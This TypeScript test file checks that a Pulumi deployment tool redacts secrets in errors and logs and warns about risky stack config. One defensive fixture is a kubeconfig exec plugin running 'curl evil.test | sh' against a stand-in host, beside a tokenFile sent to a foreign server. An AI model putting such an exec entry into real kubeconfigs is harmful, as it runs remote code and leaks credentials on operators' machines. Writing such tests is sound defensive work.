import { expect } from "chai";
import { kubeconfigForm } from "../config/cluster";
import { CONFIG_KEYS } from "../config/keys";
import { REDACTED, redact, redactUrlCredentials, secretFragments } from "../config/redact";
import { FailedRun, baseConfig, runStack, validateOnly, writeKubeconfig } from "./harness";
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import * as YAML from "yaml";

const MARKER = "Zq9SECRETxW";
const b64 = (s: string) => Buffer.from(s).toString("base64");

/** A secret value in every shape a user may give one: plain, base64 on one line, YAML lines, JSON. */
const SHAPES: [string, string][] = [
    ["one line", `${MARKER}-plain`],
    ["base64 of broken YAML", b64(`clusters: [\n  ${MARKER}-yaml: {`)],
    ["multi-line YAML", `apiVersion: v1\n${MARKER}-line: [\n  oops`],
    ["JSON", JSON.stringify({ issuer: `https://${MARKER}.example.org`, clientSecret: `${MARKER}-json` })],
    ["a URL", `https://user:${MARKER}@mdai.example.com/x`],
];

/** What validation shows a person for this stack config: the error, or every warning and info line. */
function validated(config: Record<string, string>, secretKeys: string[]): string {
    try {
        const s = validateOnly({ config, secretKeys });
        return [...s.warnings, ...s.info, ...s.blockers.map((b) => b.message)].join("\n");
    } catch (err) {
        return (err as Error).message;
    }
}

/** Everything a run shows a person: the error, every warning and info line. */
async function shown(config: Record<string, string>, secretKeys: string[]): Promise<string> {
    try {
        const r = await runStack({ config, secretKeys });
        return r.logs.map((l) => l.message).join("\n");
    } catch (err) {
        const f = err as FailedRun;
        return [f.error?.message ?? String(err), ...(f.logs ?? []).map((l) => l.message)].join("\n");
    }
}

describe("no secret value in any error, warning or log line, whatever its shape", () => {
    for (const [shape, value] of SHAPES) {
        it(`a secret ${shape} in any key of the stack config, as validation reports it`, () => {
            for (const k of CONFIG_KEYS) {
                // The value replaces the key's own, so that a key's check quotes it if it quotes anything.
                const text = validated({ ...baseConfig(), [k.key]: value }, [k.key]);
                expect(text, `${k.key}: ${text}`).not.to.contain(MARKER);
            }
        });
    }

    it("every key secret at once, in a whole run: no log line of the program quotes one", async () => {
        const marked = { ...baseConfig(), uiHostname: "mdai-zq9k2w.example.com", userPoolDomain: "login-zq9k2w", clusterName: "eks-zq9k2w", namespace: "ns-zq9k2w",
            ingressName: "ing-zq9k2w", serviceName: "svc-zq9k2w", userPoolName: "pool-zq9k2w", appClientName: "client-zq9k2w", users: '["u-zq9k2w@acme.io"]',
            groupName: "grp-zq9k2w", loadBalancerName: "lb-zq9k2w", publicPaths: '["/open-zq9k2w"]', apiPaths: '["/api-zq9k2w"]', signOutPath: "/out-zq9k2w" };
        const text = await shown(marked, Object.keys(marked).filter((k) => !k.includes(":")));
        expect(text).to.contain("[secret]").and.not.to.contain("zq9k2w");
    });

    it("a kubeconfig kept as a secret on one line in base64 is read as contents, and a broken one is never quoted", async () => {
        const real = fs.readFileSync(writeKubeconfig([{ name: "a", cluster: "c" }, { name: "b", cluster: "c" }]), "utf8");
        expect(kubeconfigForm(b64(real), true)).to.deep.equal({ kind: "contents", value: real });
        expect(kubeconfigForm(b64(real), false).kind, "base64 contents, even when plain").to.equal("contents");
        expect(kubeconfigForm("kubeconfig.yaml", false)).to.deep.equal({ kind: "path", value: "kubeconfig.yaml" });
        expect(kubeconfigForm(`${MARKER}token`, true).kind, "a secret one-liner that is no path").to.equal("contents");
        const several = await shown({ ...baseConfig(), clusterName: "", kubeconfig: b64(real.replace("certificate-authority-data: Q0E=", `token: ${MARKER}`)) }, ["kubeconfig"]);
        expect(several).to.contain("holds 2 contexts (a, b)").and.not.contain(MARKER);
    });

    it("redacts each fragment of a secret, its escaped form, and nothing shorter than six characters", () => {
        const fragments = secretFragments([{ value: `line-one ${MARKER}\nsecond-line` }, { value: JSON.stringify({ tokenEndpoint: "https://idp.example.org/token", clientSecret: "s3cr3t-value" }), structured: true }]);
        expect(redact(`quoted "${MARKER}" and second-line and s3cr3t-value`, fragments)).to.equal(`quoted "${REDACTED}" and ${REDACTED} and ${REDACTED}`);
        expect(redact(JSON.stringify(`line-one ${MARKER}\nsecond-line`), fragments)).not.to.contain(MARKER);
        expect(redact("the tokenEndpoint https://idp.example.org/token is fine", fragments), "an IdP's public fields stay readable").to.equal("the tokenEndpoint https://idp.example.org/token is fine");
        expect(redact("a b c", secretFragments([{ value: "a" }]))).to.equal("a b c");
    });
});

describe("URLs in messages show no user-info or query (the doctor's every line)", () => {
    it("replaces each with [redacted], wherever the URL stands in the text", () => {
        const cases: [string, string][] = [
            ["request to https://admin:pw@api.example.org:6443/?access_token=abc failed", "request to https://[redacted]@api.example.org:6443/?[redacted] failed"],
            ["server 'https://tok@k8s.example.org/path?x=1#frag'", "server 'https://[redacted]@k8s.example.org/path?[redacted]#frag'"],
            ["plain https://login.example.org/oauth2/authorize stays", "plain https://login.example.org/oauth2/authorize stays"],
        ];
        for (const [text, want] of cases) expect(redactUrlCredentials(text)).to.equal(want);
    });
});

describe("a stack config is code: the plan says what it makes pulumi up run and where it sends credentials", () => {
    it("warns about a kubeconfig's exec plugin and the local files it sends to the API server", async () => {
        const token = path.join(fs.mkdtempSync(path.join(os.tmpdir(), "mdai-token-")), "credentials");
        fs.writeFileSync(token, "not-really-a-token");
        const kubeconfig = YAML.stringify({ apiVersion: "v1", kind: "Config", "current-context": "c",
            clusters: [{ name: "c", cluster: { server: "https://k8s.elsewhere.test", "certificate-authority-data": "Q0E=" } }],
            users: [{ name: "u", user: { exec: { apiVersion: "client.authentication.k8s.io/v1beta1", command: "sh", args: ["-c", "curl evil.test | sh"] }, tokenFile: token } }],
            contexts: [{ name: "c", context: { cluster: "c", user: "u" } }] });
        const s = validateOnly({ config: { ...baseConfig(), clusterName: "", kubeconfig } });
        const w = s.warnings.join("\n");
        expect(w).to.contain("runs `sh -c curl evil.test | sh` (its exec plugin) on the machine of whoever runs pulumi up")
            .and.contain(`reads ${token} (tokenFile) from the machine that runs pulumi up and sends it to https://k8s.elsewhere.test`).and.contain("A stack config is code");
    });

    it("warns about aws:endpoints, proxies, a CA bundle and aws:insecure", () => {
        const s = validateOnly({ config: { ...baseConfig(), "aws:endpoints": '[{"cognitoidp":"https://cognito.elsewhere.test"}]', "aws:httpsProxy": "http://proxy.elsewhere.test:3128", "aws:insecure": "true" } });
        const w = s.warnings.join("\n");
        expect(w).to.contain("aws:endpoints sends the AWS provider's requests, signed with the credentials of whoever runs pulumi up, to https://cognito.elsewhere.test (cognitoidp)")
            .and.contain("aws:httpsProxy sends the AWS provider's traffic through http://proxy.elsewhere.test:3128").and.contain("aws:insecure is true");
    });
});
